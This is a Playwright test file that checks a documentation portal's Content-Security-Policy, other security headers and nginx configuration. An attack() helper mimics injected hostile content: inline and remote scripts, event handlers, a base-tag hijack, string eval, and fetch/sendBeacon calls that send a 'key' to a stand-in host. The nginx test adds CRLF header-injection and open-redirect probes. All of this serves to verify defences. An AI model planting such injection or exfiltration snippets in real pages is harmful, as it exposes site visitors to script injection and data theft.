import {mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile} from 'node:fs/promises';
import {tmpdir} from 'node:os';
import path from 'node:path';
import {gzipSync} from 'node:zlib';
import {findNginx, startNginx} from './nginx';
import {Console} from './pages/Console';
import {expect, ROOT, test} from './test';
import {watch} from './traffic';

const BUILD = path.join(ROOT, 'build');

test('every answer has the headers; what never changes may be kept, the rest is asked for again', async ({request, served}) => {
  const page = await request.get(`${served.url}docs/intro`);
  const [main] = /assets\/js\/main\.\w+\.js/.exec(await page.text()) ?? [];
  for (const [address, status, cache, type] of [
    ['', 200, 'no-cache', 'text/html; charset=utf-8'],
    [main, 200, 'public, max-age=31536000, immutable', 'text/javascript; charset=utf-8'],
    ['assets/js/older.12345678.js', 404, 'no-cache', 'text/html; charset=utf-8'],
    ['nowhere', 404, 'no-cache', 'text/html; charset=utf-8'],
    ['docs/intro.md', 200, 'no-cache', 'text/markdown; charset=utf-8'],
    ['blog/rss.xml', 200, 'no-cache', 'application/rss+xml; charset=utf-8'],
    ['blog/atom.xml', 200, 'no-cache', 'application/atom+xml; charset=utf-8'],
    ['openapi/api/openapi.yaml', 200, 'no-cache', 'application/yaml; charset=utf-8'],
    ['.deploy/site.json', 404, 'no-cache', 'text/html; charset=utf-8'],
  ] as const) {
    const answer = await request.get(`${served.url}${address ?? 'no main script'}`);
    const headers = answer.headers();
    expect([answer.status(), headers['cache-control'], headers['content-type']], address).toEqual([status, cache, type]);
    expect(headers['content-security-policy'], address).toMatch(/^default-src 'none'; script-src 'self' 'sha256-/);
    expect(headers['content-security-policy'], address).not.toMatch(/unsafe-inline|unsafe-eval/);
    expect(headers, address).toMatchObject({'x-content-type-options': 'nosniff', 'cross-origin-opener-policy': 'same-origin'});
  }
});

/** Tries what a hostile text would try, were it ever to become part of a page; notes what has worked and what was refused. */
function attack(): void {
  const seen = {kinds: [] as string[], done: [] as string[]};
  const did = (what: string): unknown => seen.done.push(what);
  Object.assign(window, {seen, did});
  addEventListener('securitypolicyviolation', ({effectiveDirective}) => seen.kinds.push(effectiveDirective));
  const add = <K extends keyof HTMLElementTagNameMap>(name: K, fields: Partial<HTMLElementTagNameMap[K]>): HTMLElementTagNameMap[K] =>
    document.body.appendChild(Object.assign(document.createElement(name), fields));
  // What is evaluated for a test may do anything; from a timer on the page's own rules hold.
  setTimeout(() => {
    add('script', {textContent: "did('script')"});
    const markup = add('div', {innerHTML: `<img src="data:," onerror="did('handler')"><p style="color: rgb(1, 2, 3)">Text</p>`});
    if (getComputedStyle(markup.querySelector('p') ?? markup).color === 'rgb(1, 2, 3)') did('style');
    add('style', {textContent: 'p {color: red}'});
    add('script', {src: 'https://elsewhere.example/x.js', onload: () => did('remote script')});
    add('iframe', {src: 'https://elsewhere.example/'});
    add('base', {href: 'https://elsewhere.example/'});
    if (document.baseURI.includes('elsewhere')) did('base');
    // eslint-disable-next-line @typescript-eslint/no-implied-eval -- it has to be refused
    setTimeout("did('text of a timer')");
    void fetch('https://elsewhere.example/key').then(() => did('fetch'));
    navigator.sendBeacon('https://elsewhere.example/beacon', 'key');
  });
}

test('what a hostile text might do is refused by the policy', async ({page, portal, violations}) => {
  await portal.open('docs/intro');
  const seen = watch(page);
  await page.evaluate(attack);
  const getKinds = (): Promise<string[]> =>
    page.evaluate(() => [...new Set((window as unknown as {seen: {kinds: string[]}}).seen.kinds)].sort());
  await expect
    .poll(getKinds)
    .toEqual([
      'base-uri',
      'connect-src',
      'frame-src',
      'script-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-attr',
      'style-src-elem',
    ]);
  expect(await page.evaluate(() => (window as unknown as {seen: {done: string[]}}).seen.done)).toEqual([]);
  const asked = seen.requests.filter((request) => request.url().includes('elsewhere'));
  expect(await Promise.all(asked.map((request) => request.response()))).toEqual(asked.map(() => null));
  violations.length = 0;
});

test('the editor of JSON has its styles under the policy', async ({page}) => {
  const call = new Console(page);
  await call.start('indices-controller-create-index');
  await call.action('JSON').click();
  await expect(call.console.locator('.cm-editor')).toHaveCSS('display', 'flex');
  await expect(call.console.locator('.cm-scroller')).toHaveCSS('overflow', 'auto');
  await expect(page.locator('style')).toHaveCount(0);
});

test('a call that the policy of a published portal forbids says so', async ({page, violations}) => {
  const {serve} = await import('../scripts/serve.mts');
  const {server, url} = await serve({folder: BUILD, basePath: '/docs-site/', port: 0});
  const call = new Console(page);
  await call.open(`${url}docs/api/indices-controller-get-available-indices`);
  await call.button.click();
  await call.server.selectOption({label: 'Sandbox on localhost'});
  await call.send.click();
  await expect(call.console.getByText("This portal's own security policy does not allow calls to this address.")).toBeVisible();
  expect(violations.length).toBeGreaterThan(0);
  violations.length = 0;
  server.closeAllConnections();
  server.close();
});

test.describe('nginx', () => {
  test.skip(findNginx() === undefined, 'nginx is not installed');

  test('sends compressed files, refuses politely what asks too often, and knows both forms of an address', async ({request}) => {
    const work = await mkdtemp(path.join(tmpdir(), 'portal-hosted-'));
    const {renderNginx} = await import('../scripts/hosting/nginx.mts');
    try {
      for (const trailingSlash of [true, false]) {
        const folder = path.join(work, String(trailingSlash));
        await mkdir(path.join(folder, '.deploy'), {recursive: true});
        await mkdir(path.join(folder, 'docs/intro'), {recursive: true});
        await writeFile(path.join(folder, 'index.html'), 'home');
        await writeFile(path.join(folder, '404.html'), 'nowhere');
        await writeFile(path.join(folder, trailingSlash ? 'docs/intro/index.html' : 'docs/intro.html'), 'intro');
        await writeFile(path.join(folder, 'some.txt'), 'long');
        await writeFile(path.join(folder, 'some.txt.gz'), gzipSync('compressed before'));
        const redirects = [{from: '/old', to: '/docs/intro'}];
        await writeFile(
          path.join(folder, '.deploy/portal.conf'),
          renderNginx({basePath: '/base/', trailingSlash, otherLocales: [], redirects, headers: {'X-Test': 'yes'}}),
        );
        await symlink(path.join(BUILD, '.deploy/nginx.conf'), path.join(folder, '.deploy/nginx.conf'));
        const {url, stop} = await startNginx(findNginx() ?? '', folder, '/base/', false);
        const get = async (address: string): Promise<string> => {
          const answer = await request.get(new URL(address, url).href, {maxRedirects: 0});
          return `${answer.status()} ${answer.headers()['location'] ?? (await answer.text())}`;
        };
        const [good, other] = trailingSlash ? ['/base/docs/intro/', '/base/docs/intro'] : ['/base/docs/intro', '/base/docs/intro/'];
        expect(await get(good)).toBe('200 intro');
        expect(await get(`${other}?a=1`)).toBe(`301 ${good}?a=1`);
        expect(await get('/base/')).toBe('200 home');
        expect(await get('/base')).toBe('302 /base/');
        expect(await get('/')).toBe('302 /base/');
        expect(await get('/base/old')).toBe('301 /base/docs/intro');
        expect(await get('/base/nope')).toBe('404 nowhere');
        expect(await get('/base/nope/')).toBe('404 nowhere');
        expect(await get('/base/%0d%0aX-Evil:%20yes/')).toBe('404 nowhere');
        expect(await get('/base//elsewhere.example/')).toBe('404 nowhere');
        expect(await get('/base/some.txt')).toBe('200 compressed before');
        await stop();
      }
    } finally {
      await rm(work, {recursive: true, force: true});
    }
  });

  test('files of the build for other hosts have the same policy', async ({request, served}) => {
    const names = await readdir(path.join(BUILD, '.deploy'));
    expect(names.sort()).toEqual(['Caddyfile', '_headers', '_redirects', 'nginx.conf', 'portal.conf', 'site.json']);
    const {headers} = JSON.parse(await readFile(path.join(BUILD, '.deploy/site.json'), 'utf8')) as {headers: Record<string, string>};
    const policy = headers['Content-Security-Policy'] ?? '';
    const {allowLocal} = await import('../scripts/hosting/policy.mts');
    expect((await request.get(served.url)).headers()['content-security-policy']).toBe(allowLocal(policy));
    expect(policy).not.toContain('localhost');
  });
});
